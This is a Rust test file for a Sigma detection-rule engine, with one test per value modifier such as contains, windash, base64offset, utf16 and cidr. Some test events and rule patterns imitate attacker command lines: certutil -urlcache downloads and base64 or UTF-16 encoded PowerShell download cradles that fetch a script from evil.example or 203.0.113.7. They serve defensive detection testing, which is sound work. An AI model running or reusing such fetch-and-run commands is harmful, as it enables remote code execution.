//! One test per value modifier of the Sigma modifiers appendix (2.1), with its own examples
//! where the appendix gives one.

use super::{arr, compile_with, load, matches};
use crate::{Placeholders, RuleStatus};
use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use spoor_event::Value;

#[test]
fn contains() {
    let sel = "sel: {CommandLine|contains: ' -urlcache '}";
    sigma_match!([sel, "condition: sel"], ev!{"CommandLine" => "certutil -URLCACHE -split -f http://x"} => true);
    sigma_match!([sel, "condition: sel"], ev!{"CommandLine" => "certutil -urlcache"} => false);
    sigma_match!([sel, "condition: sel"], ev!{"Image" => "certutil -urlcache -f"} => false);
    sigma_match!([sel, "condition: sel"], ev!{} => false);
}

#[test]
fn startswith_and_endswith() {
    let s = "sel: {User|startswith: 'adm'}";
    sigma_match!([s, "condition: sel"], ev!{"User" => "Administrator"} => true);
    sigma_match!([s, "condition: sel"], ev!{"User" => "sysadm"} => false);
    let e = r"sel: {Image|endswith: '\cmd.exe'}";
    sigma_match!([e, "condition: sel"], ev!{"Image" => r"C:\Windows\System32\CMD.EXE"} => true);
    sigma_match!([e, "condition: sel"], ev!{"Image" => r"C:\Windows\System32\cmd.exe.bak"} => false);
    sigma_match!([e, "condition: sel"], ev!{"Image" => "cmd.exe"} => false);
}

#[test]
fn all_turns_the_list_into_and() {
    let s = "sel: {CommandLine|contains|all: [' -urlcache ', ' -f ']}";
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => "certutil -f -urlcache -split x"} => true);
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => "certutil -urlcache -split x"} => false);
    // Without `all` the list is an OR.
    let o = "sel: {CommandLine|contains: [' -urlcache ', ' -f ']}";
    sigma_match!([o, "condition: sel"], ev!{"CommandLine" => "certutil -urlcache -split x"} => true);
}

#[test]
fn exists_checks_presence_not_value() {
    let t = "sel: {EventID: 4738, PasswordLastSet|exists: true}";
    sigma_match!([t, "condition: sel"], ev!{"EventID" => 4738i64, "PasswordLastSet" => "-"} => true);
    // The appendix: presence only, "be it empty or null".
    sigma_match!([t, "condition: sel"], ev!{"EventID" => 4738i64, "PasswordLastSet" => ""} => true);
    sigma_match!([t, "condition: sel"], ev!{"EventID" => 4738i64, "PasswordLastSet" => Value::Null} => true);
    sigma_match!([t, "condition: sel"], ev!{"EventID" => 4738i64} => false);
    let f = "sel: {EventID: 4738, PasswordLastSet|exists: false}";
    sigma_match!([f, "condition: sel"], ev!{"EventID" => 4738i64} => true);
    sigma_match!([f, "condition: sel"], ev!{"EventID" => 4738i64, "PasswordLastSet" => Value::Null} => false);
}

#[test]
fn cased() {
    let s = "sel: {Image|cased: 'Evil.exe'}";
    sigma_match!([s, "condition: sel"], ev!{"Image" => "Evil.exe"} => true);
    sigma_match!([s, "condition: sel"], ev!{"Image" => "evil.exe"} => false);
    let c = "sel: {CommandLine|contains|cased: 'EncodedCommand'}";
    sigma_match!([c, "condition: sel"], ev!{"CommandLine" => "powershell -EncodedCommand x"} => true);
    sigma_match!([c, "condition: sel"], ev!{"CommandLine" => "powershell -encodedcommand x"} => false);
    // Default is case-insensitive.
    sigma_match!(["sel: {Image: 'Evil.exe'}", "condition: sel"], ev!{"Image" => "EVIL.EXE"} => true);
}

#[test]
fn windash_permutes_every_dash_kind() {
    let s = "sel: {CommandLine|windash|contains: ' -s '}";
    for dash in ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'] {
        let cmd = format!("ntdsutil {dash}s x");
        sigma_match!([s, "condition: sel"], ev!{"CommandLine" => cmd} => true);
    }
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => "ntdsutil +s x"} => false);
    // Two dashes: every combination.
    let two = "sel: {CommandLine|windash|contains|all: ['-a', '-b']}";
    sigma_match!([two, "condition: sel"], ev!{"CommandLine" => "x /a \u{2014}b"} => true);
    sigma_match!([two, "condition: sel"], ev!{"CommandLine" => "x /a b"} => false);
}

#[test]
fn regular_expressions_and_their_flags() {
    // Case-sensitive by default.
    let re = "sel: {CommandLine|re: 'a.b'}";
    sigma_match!([re, "condition: sel"], ev!{"CommandLine" => "xa_by"} => true);
    sigma_match!([re, "condition: sel"], ev!{"CommandLine" => "xA_By"} => false);
    let i = "sel: {CommandLine|re|i: 'a.b'}";
    sigma_match!([i, "condition: sel"], ev!{"CommandLine" => "xA_By"} => true);
    // m: ^ and $ match at line ends.
    let m = "sel: {ScriptBlockText|re|m: '^Invoke-X$'}";
    sigma_match!([m, "condition: sel"], ev!{"ScriptBlockText" => "a\nInvoke-X\nb"} => true);
    let no_m = "sel: {ScriptBlockText|re: '^Invoke-X$'}";
    sigma_match!([no_m, "condition: sel"], ev!{"ScriptBlockText" => "a\nInvoke-X\nb"} => false);
    // s: the dot matches a newline.
    let s = "sel: {ScriptBlockText|re|s: 'a.b'}";
    sigma_match!([s, "condition: sel"], ev!{"ScriptBlockText" => "a\nb"} => true);
    sigma_match!([re, "condition: sel"], ev!{"CommandLine" => "a\nb"} => false);
    // Unanchored: the pattern may match anywhere; anchors are explicit.
    let anchored = "sel: {Image|re: '^C:\\\\Windows\\\\'}";
    sigma_match!([anchored, "condition: sel"], ev!{"Image" => r"C:\Windows\x.exe"} => true);
    sigma_match!([anchored, "condition: sel"], ev!{"Image" => r"D:\C:\Windows\x.exe"} => false);
    // Numbers are matched by their text.
    sigma_match!(["sel: {EventID|re: '^46[0-9]{2}$'}", "condition: sel"], ev!{"EventID" => 4688i64} => true);
}

fn b64(bytes: &[u8]) -> String {
    STANDARD.encode(bytes)
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16()
        .flat_map(|u| [(u & 0xFF) as u8, (u >> 8) as u8])
        .collect()
}

#[test]
fn base64_encodes_the_whole_value() {
    // Y21k is base64 of "cmd".
    let s = "sel: {Payload|base64: 'cmd'}";
    sigma_match!([s, "condition: sel"], ev!{"Payload" => "Y21k"} => true);
    sigma_match!([s, "condition: sel"], ev!{"Payload" => "cmd"} => false);
    let c = "sel: {CommandLine|base64|contains: 'http://'}";
    let cmd = format!("x {} y", b64(b"http://"));
    sigma_match!([c, "condition: sel"], ev!{"CommandLine" => cmd} => true);
}

#[test]
fn base64offset_finds_the_value_at_every_alignment() {
    let s = "sel: {CommandLine|base64offset|contains: 'http://evil.example/'}";
    for prefix in ["", "a", "ab", "abc", "IEX (iwr '", "x\ny\nz: "] {
        let payload = format!("{prefix}http://evil.example/stage2.ps1");
        let cmd = format!("powershell -enc {}", b64(payload.as_bytes()));
        sigma_match!([s, "condition: sel"], ev!{"CommandLine" => cmd} => true);
    }
    let other = format!("powershell -enc {}", b64(b"http://good.example/stage2.ps1"));
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => other} => false);
}

#[test]
fn utf16_encodings_before_base64() {
    // The appendix: cmd -> 63 00 6d 00 64 00 (le), 00 63 00 6d 00 64 (be), FF FE 63 00 ... (utf16).
    let le = b64(&[0x63, 0, 0x6d, 0, 0x64, 0]);
    let be = b64(&[0, 0x63, 0, 0x6d, 0, 0x64]);
    let bom = b64(&[0xFF, 0xFE, 0x63, 0, 0x6d, 0, 0x64, 0]);
    for (modifier, want) in [
        ("utf16le", &le),
        ("wide", &le),
        ("utf16be", &be),
        ("utf16", &bom),
    ] {
        let sel = format!("sel: {{Payload|{modifier}|base64: 'cmd'}}");
        for (candidate, expected) in [(&le, want == &le), (&be, want == &be), (&bom, want == &bom)]
        {
            sigma_match!([&sel, "condition: sel"], ev!{"Payload" => candidate.as_str()} => expected);
        }
    }
    // The usual PowerShell -EncodedCommand case: UTF-16LE text, base64, somewhere in the line.
    let s = "sel: {CommandLine|wide|base64offset|contains: 'DownloadString'}";
    for prefix in ["", "I", "IE", "IEX (New-Object Net.WebClient)."] {
        let script = format!("{prefix}DownloadString('http://203.0.113.7/a')");
        let cmd = format!("powershell.exe -e {}", b64(&utf16le(&script)));
        sigma_match!([s, "condition: sel"], ev!{"CommandLine" => cmd} => true);
    }
    let utf8 = format!("powershell.exe -e {}", b64(b"DownloadString('x')"));
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => utf8} => false);
}

#[test]
fn utf16_without_base64_is_reported_unsupported() {
    let set = load(&[(
        "u.yml",
        &super::rule_yaml(&["sel: {Payload|utf16le: 'cmd'}", "condition: sel"]),
    )]);
    assert!(
        matches!(&set.reports()[0].status, RuleStatus::Unsupported(r) if r.to_string().contains("utf16")),
        "{:?}",
        set.reports()
    );
    assert_eq!(set.len(), 0);
}

#[test]
fn cidr_v4_and_v6() {
    let v4 = "sel: {DestinationIp|cidr: 10.0.0.0/8}";
    sigma_match!([v4, "condition: sel"], ev!{"DestinationIp" => "10.1.2.3"} => true);
    sigma_match!([v4, "condition: sel"], ev!{"DestinationIp" => "11.0.0.1"} => false);
    sigma_match!([v4, "condition: sel"], ev!{"DestinationIp" => "not an ip"} => false);
    let list = "sel: {DestinationIp|cidr: ['192.168.0.0/16', '172.16.0.0/12']}";
    sigma_match!([list, "condition: sel"], ev!{"DestinationIp" => "172.31.255.255"} => true);
    sigma_match!([list, "condition: sel"], ev!{"DestinationIp" => "172.32.0.0"} => false);
    let v6 = "sel: {DestinationIp|cidr: '2001:db8::/32'}";
    sigma_match!([v6, "condition: sel"], ev!{"DestinationIp" => "2001:db8:ffff::1"} => true);
    sigma_match!([v6, "condition: sel"], ev!{"DestinationIp" => "2001:db9::1"} => false);
    sigma_match!([v6, "condition: sel"], ev!{"DestinationIp" => "10.1.2.3"} => false);
    let ll = "sel: {SourceIp|cidr: 'fe80::/10'}";
    sigma_match!([ll, "condition: sel"], ev!{"SourceIp" => "FE80::1"} => true);
}

#[test]
fn numeric_comparisons() {
    let cases: [(&str, i64, bool); 12] = [
        ("lt", 9, true),
        ("lt", 10, false),
        ("lt", 11, false),
        ("lte", 9, true),
        ("lte", 10, true),
        ("lte", 11, false),
        ("gt", 9, false),
        ("gt", 10, false),
        ("gt", 11, true),
        ("gte", 9, false),
        ("gte", 10, true),
        ("gte", 11, true),
    ];
    for (op, value, want) in cases {
        let sel = format!("sel: {{LogonType|{op}: 10}}");
        sigma_match!([&sel, "condition: sel"], ev!{"LogonType" => value} => want);
        // Numbers written as text in the event compare by value too.
        sigma_match!([&sel, "condition: sel"], ev!{"LogonType" => format!(" {value} ")} => want);
    }
    sigma_match!(["sel: {LogonType|gt: 1}", "condition: sel"], ev!{"LogonType" => "many"} => false);
    sigma_match!(["sel: {Size|gte: 1.5}", "condition: sel"], ev!{"Size" => Value::Float(1.5)} => true);
}

#[test]
fn neq_with_strings_and_numbers() {
    let s = "sel: {User|neq: 'NT AUTHORITY\\SYSTEM'}";
    sigma_match!([s, "condition: sel"], ev!{"User" => "CORP\\j.smith"} => true);
    sigma_match!([s, "condition: sel"], ev!{"User" => "nt authority\\system"} => false);
    // neq asks for the field to be there.
    sigma_match!([s, "condition: sel"], ev!{"Image" => "x"} => false);
    let list = "sel: {LogonType|neq: [2, 10]}";
    sigma_match!([list, "condition: sel"], ev!{"LogonType" => 3i64} => true);
    sigma_match!([list, "condition: sel"], ev!{"LogonType" => 10i64} => false);
    sigma_match!([list, "condition: sel"], ev!{"LogonType" => "2"} => false);
    let cased = "sel: {User|neq|cased: 'Admin'}";
    sigma_match!([cased, "condition: sel"], ev!{"User" => "admin"} => true);
    sigma_match!([cased, "condition: sel"], ev!{"User" => "Admin"} => false);
}

#[test]
fn fieldref_compares_two_fields() {
    let s = "sel: {TargetUserName|fieldref: SubjectUserName}";
    sigma_match!([s, "condition: sel"], ev!{"SubjectUserName" => "j.smith", "TargetUserName" => "J.Smith"} => true);
    sigma_match!([s, "condition: sel"], ev!{"SubjectUserName" => "j.smith", "TargetUserName" => "a.nguyen"} => false);
    sigma_match!([s, "condition: sel"], ev!{"TargetUserName" => "j.smith"} => false);
    let neq = "sel: {TargetUserName|fieldref|neq: SubjectUserName}";
    sigma_match!([neq, "condition: sel"], ev!{"SubjectUserName" => "j.smith", "TargetUserName" => "a.nguyen"} => true);
    sigma_match!([neq, "condition: sel"], ev!{"SubjectUserName" => "j.smith", "TargetUserName" => "j.smith"} => false);
    let c = "sel: {CommandLine|fieldref|contains: Image}";
    sigma_match!([c, "condition: sel"], ev!{"Image" => "evil.exe", "CommandLine" => "start EVIL.EXE /q"} => true);
    let st = "sel: {ParentCommandLine|fieldref|startswith: ParentImage}";
    sigma_match!([st, "condition: sel"], ev!{"ParentImage" => "C:\\a.exe", "ParentCommandLine" => "C:\\a.exe -x"} => true);
    let en = "sel: {ParentCommandLine|fieldref|endswith: ParentImage}";
    sigma_match!([en, "condition: sel"], ev!{"ParentImage" => "C:\\a.exe", "ParentCommandLine" => "C:\\a.exe -x"} => false);
    let cased = "sel: {TargetUserName|fieldref|cased: SubjectUserName}";
    sigma_match!([cased, "condition: sel"], ev!{"SubjectUserName" => "j.smith", "TargetUserName" => "J.Smith"} => false);
}

#[test]
fn expand_uses_the_placeholder_values() {
    let det = ["sel: {User|expand: '%Administrators%'}", "condition: sel"];
    let mut p = Placeholders::new();
    p.insert(
        "Administrators".into(),
        vec!["CORP\\Administrator".into(), "CORP\\adm_*".into()],
    );
    let set = compile_with(&det, Some(p));
    assert!(matches(&set, &ev! {"User" => "corp\\administrator"}));
    assert!(matches(&set, &ev! {"User" => "CORP\\adm_jsmith"}));
    assert!(!matches(&set, &ev! {"User" => "CORP\\j.smith"}));
    assert!(!matches(&set, &ev! {"User" => "%Administrators%"}));
    // Escaped percent and text around the placeholder.
    let mut p = Placeholders::new();
    p.insert("Servers".into(), vec!["srv01".into(), "srv02".into()]);
    let set = compile_with(
        &[
            "sel: {Path|expand: '\\%plain%Servers%.log'}",
            "condition: sel",
        ],
        Some(p),
    );
    assert!(matches(&set, &ev! {"Path" => "%plainsrv02.log"}));
    assert!(!matches(&set, &ev! {"Path" => "%plain%Servers%.log"}));
    // Without `expand`, %name% is literal text.
    sigma_match!(["sel: {User: '%Administrators%'}", "condition: sel"], ev!{"User" => "%administrators%"} => true);
    // Without values for the placeholder the rule is unsupported, as the spec asks.
    let set = load(&[("p.yml", &super::rule_yaml(&det))]);
    assert!(
        matches!(&set.reports()[0].status, RuleStatus::Unsupported(r) if r.to_string().contains("Administrators")),
        "{:?}",
        set.reports()
    );
}

#[test]
fn time_parts() {
    // 2024-07-08 is a Monday of ISO week 28.
    let t = "2024-07-08 03:14:15.926";
    for (part, value) in [
        ("minute", 14),
        ("hour", 3),
        ("day", 8),
        ("week", 28),
        ("month", 7),
        ("year", 2024),
    ] {
        let hit = format!("sel: {{UtcTime|{part}: {value}}}");
        let miss = format!("sel: {{UtcTime|{part}: {}}}", value + 1);
        sigma_match!([&hit, "condition: sel"], ev!{"UtcTime" => t} => true);
        sigma_match!([&miss, "condition: sel"], ev!{"UtcTime" => t} => false);
    }
    let night = "sel: {UtcTime|hour|lt: 5}";
    sigma_match!([night, "condition: sel"], ev!{"UtcTime" => "2024-07-08T03:14:15Z"} => true);
    sigma_match!([night, "condition: sel"], ev!{"UtcTime" => "2024-07-08T13:14:15Z"} => false);
    sigma_match!([night, "condition: sel"], ev!{"UtcTime" => "yesterday"} => false);
}

#[test]
fn modifiers_on_arrays_work_element_wise() {
    let s = "sel: {CommandLine|contains|all: ['-a', '-b']}";
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => arr(["x -a".into(), "y -b".into()])} => true);
    sigma_match!([s, "condition: sel"], ev!{"CommandLine" => arr(["x -a".into(), "y".into()])} => false);
    sigma_match!(["sel: {Port|gt: 1000}", "condition: sel"], ev!{"Port" => arr([Value::Int(80), Value::Int(8080)])} => true);
    sigma_match!(["sel: {Ip|cidr: 10.0.0.0/8}", "condition: sel"], ev!{"Ip" => arr(["1.1.1.1".into(), "10.0.0.9".into()])} => true);
    sigma_match!(["sel: {Tag|neq: a}", "condition: sel"], ev!{"Tag" => arr(["a".into(), "b".into()])} => false);
    sigma_match!(["sel: {Tag|neq: c}", "condition: sel"], ev!{"Tag" => arr(["a".into(), "b".into()])} => true);
}
